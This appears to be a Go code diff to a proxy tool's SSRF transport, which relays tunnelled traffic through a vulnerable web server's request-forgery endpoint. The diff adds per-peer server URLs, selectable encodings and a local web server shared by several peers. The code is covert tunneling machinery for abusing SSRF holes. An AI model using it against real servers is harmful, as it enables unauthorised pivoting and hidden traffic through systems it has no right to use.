@@ -8,22 +8,39 @@ import (
 	"fmt"
 	"io"
 	"log/slog"
+	"net"
 	"net/http"
 	"net/url"
 	"socks.it/proxy"
 	"socks.it/proxy/decorators"
 	"socks.it/utils/errs"
+	"strings"
+	"sync"
 	"time"
 )
 
 var ssrfURL = flag.String("ssrfURL", "http://localhost:10081/ssrf", "Vulnerable Web Server url")
 var localServeURL = flag.String("localServeURL", "http://localhost:10082/", "Local side web server url")
 var remoteServeURL = flag.String("remoteServeURL", "http://localhost:10083/", "Remote side web server url")
+var peerServeURLs = flag.String("peerServeURLs", "", "Comma separated peer=url, the web server url of each peer, peers not listed are served at -remoteServeURL")
+
+// The local web server is shared by the transports of every peer, requests are told apart by the name of the sender.
+var (
+	serversLock sync.Mutex
+	servers     = make(map[string]*localServer) // by address
+)
+
+type localServer struct {
+	server     *http.Server
+	transports map[string]*ssrfTransport // by peer name
+}
 
 type ssrfMiddleman struct {
 	name        string
 	peer        string
 	rawProxyURL string
+	encoding    decorators.TextEncoding
+	serveURL    string // of the peer.
 	logger      *slog.Logger
 }
 
@@ -35,11 +52,19 @@ func WithProxy(rawProxyURL string) Option {
 	}
 }
 
+// WithEncoding encodes packets by encoding instead of base64.
+func WithEncoding(encoding decorators.TextEncoding) Option {
+	return func(m *ssrfMiddleman) {
+		m.encoding = encoding
+	}
+}
+
 func New(name, peer string, logger *slog.Logger, options ...Option) proxy.Middleman {
 	t := ssrfMiddleman{
-		name:   name,
-		peer:   peer,
-		logger: logger,
+		name:     name,
+		peer:     peer,
+		encoding: decorators.Base64,
+		logger:   logger,
 	}
 
 	for _, option := range options {
@@ -50,6 +75,19 @@ func New(name, peer string, logger *slog.Logger, options ...Option) proxy.Middle
 }
 
 func (s *ssrfMiddleman) Setup() error {
+	s.serveURL = *remoteServeURL
+	if *peerServeURLs == "" {
+		return nil
+	}
+	for _, peerURL := range strings.Split(*peerServeURLs, ",") {
+		peer, serveURL, ok := strings.Cut(strings.TrimSpace(peerURL), "=")
+		if !ok {
+			return errs.WithStack(fmt.Errorf("invalid peer serve url %q, want peer=url", peerURL))
+		}
+		if peer == s.peer {
+			s.serveURL = serveURL
+		}
+	}
 	return nil
 }
 
@@ -60,36 +98,60 @@ func (s *ssrfMiddleman) Teardown() error {
 func (s *ssrfMiddleman) NewTransport() (proxy.Transporter, error) {
 	t := &ssrfTransport{
 		readChan:    make(chan *bytes.Buffer, 512),
+		closed:      make(chan struct{}),
 		logger:      s.logger,
 		name:        s.name,
 		peer:        s.peer,
+		serveURL:    s.serveURL,
 		rawProxyURL: s.rawProxyURL,
 	}
 
-	go t.listenAndServe()
-	return decorators.NewBase64Transport(t, s.logger), nil
+	if err := t.listen(); err != nil {
+		return nil, err
+	}
+	return decorators.NewTextTransport(t, s.encoding, s.logger), nil
 }
 
 func (s *ssrfMiddleman) WriteSpace() int {
-	return 4096 * 3 / 4 // base64 encoded
+	return decorators.DecodedLen(s.encoding, 4096)
 }
 
 type ssrfTransport struct {
 	name        string
 	peer        string
+	serveURL    string
 	readChan    chan *bytes.Buffer
+	closed      chan struct{}
 	logger      *slog.Logger
 	rawProxyURL string
-	server      *http.Server
+	address     string // of the local web server.
 }
 
-func (t *ssrfTransport) listenAndServe() {
+// listen serves requests of the peer by the local web server, which is started by the first transport.
+func (t *ssrfTransport) listen() error {
 	serveURL, err := url.Parse(*localServeURL)
 	if err != nil {
 		t.logger.Error("Failed to parse localServeURL URL", "error", err)
-		panic(err)
+		return errs.WithStack(err)
+	}
+	t.address = serveURL.Host
+
+	serversLock.Lock()
+	defer serversLock.Unlock()
+
+	if s, ok := servers[t.address]; ok {
+		// The transport of a stopped one is replaced.
+		s.transports[t.peer] = t
+		return nil
 	}
 
+	listener, err := net.Listen("tcp", t.address)
+	if err != nil {
+		t.logger.Error("Failed to listen", "address", t.address, "error", err)
+		return errs.WithStack(err)
+	}
+
+	s := &localServer{transports: map[string]*ssrfTransport{t.peer: t}}
 	handler := http.NewServeMux()
 	handler.HandleFunc(serveURL.Path,
 		func(w http.ResponseWriter, request *http.Request) {
@@ -99,28 +161,35 @@ func (t *ssrfTransport) listenAndServe() {
 				_ = request.Body.Close()
 			}()
 
-			if request.URL.Query().Get("name") != t.peer {
-				t.logger.Warn("Received from unknown peer", "name", t.peer, "from", request.URL.Query().Get("name"))
+			from := request.URL.Query().Get("name")
+			serversLock.Lock()
+			peer, ok := s.transports[from]
+			serversLock.Unlock()
+			if !ok {
+				t.logger.Warn("Received from unknown peer", "from", from)
 				return
 			}
 
 			buf := new(bytes.Buffer)
 			if _, err := io.Copy(buf, request.Body); err != nil {
-				t.logger.Error("Failed to read request body", "error", err)
+				peer.logger.Error("Failed to read request body", "error", err)
 				return
 			}
-			t.readChan <- buf
+			select {
+			case peer.readChan <- buf:
+			case <-peer.closed:
+			}
 		})
+	s.server = &http.Server{Handler: handler}
+	servers[t.address] = s
 
 	t.logger.Info("Starting web server", "address", serveURL.String())
-
-	t.server = &http.Server{
-		Addr:    serveURL.Host,
-		Handler: handler,
-	}
-	if err := t.server.ListenAndServe(); err != nil {
-		t.logger.Warn("Stop to serve", "error", err)
-	}
+	go func() {
+		if err := s.server.Serve(listener); err != nil {
+			t.logger.Warn("Stop to serve", "error", err)
+		}
+	}()
+	return nil
 }
 
 func (t *ssrfTransport) NextWriter() (io.WriteCloser, error) {
@@ -135,7 +204,8 @@ func (t *ssrfTransport) NextWriter() (io.WriteCloser, error) {
 	}
 
 	return &ssrfTransportWriter{
-		name: t.name,
+		name:     t.name,
+		serveURL: t.serveURL,
 		client: &http.Client{
 			Transport: &httpTransport,
 			Timeout:   10 * time.Second,
@@ -145,8 +215,9 @@ func (t *ssrfTransport) NextWriter() (io.WriteCloser, error) {
 
 type ssrfTransportWriter struct {
 	bytes.Buffer
-	name   string
-	client *http.Client
+	name     string
+	serveURL string
+	client   *http.Client
 }
 
 func (w *ssrfTransportWriter) Close() error {
@@ -157,7 +228,7 @@ func (w *ssrfTransportWriter) Close() error {
 		Body    string      `json:"body"`
 	}{
 		Method: "POST",
-		URL:    fmt.Sprintf("%s?name=%s", *remoteServeURL, w.name),
+		URL:    fmt.Sprintf("%s?name=%s", w.serveURL, w.name),
 		Body:   string(w.Buffer.Bytes()),
 	}
 	data, err := json.Marshal(&proxyRequest)
@@ -170,11 +241,31 @@ func (w *ssrfTransportWriter) Close() error {
 }
 
 func (t *ssrfTransport) NextReader() (io.Reader, error) {
-	return <-t.readChan, nil
+	select {
+	case buf := <-t.readChan:
+		return buf, nil
+	case <-t.closed:
+		return nil, errs.WithStack(io.ErrClosedPipe)
+	}
 }
 
+// Close stops the local web server once no transport is left.
 func (t *ssrfTransport) Close() error {
-	_ = t.server.Shutdown(context.Background())
-	close(t.readChan)
+	close(t.closed)
+
+	serversLock.Lock()
+	s := servers[t.address]
+	if s.transports[t.peer] == t {
+		delete(s.transports, t.peer)
+	}
+	last := len(s.transports) == 0
+	if last {
+		delete(servers, t.address)
+	}
+	serversLock.Unlock()
+
+	if last {
+		return errs.WithStack(s.server.Shutdown(context.Background()))
+	}
 	return nil
 }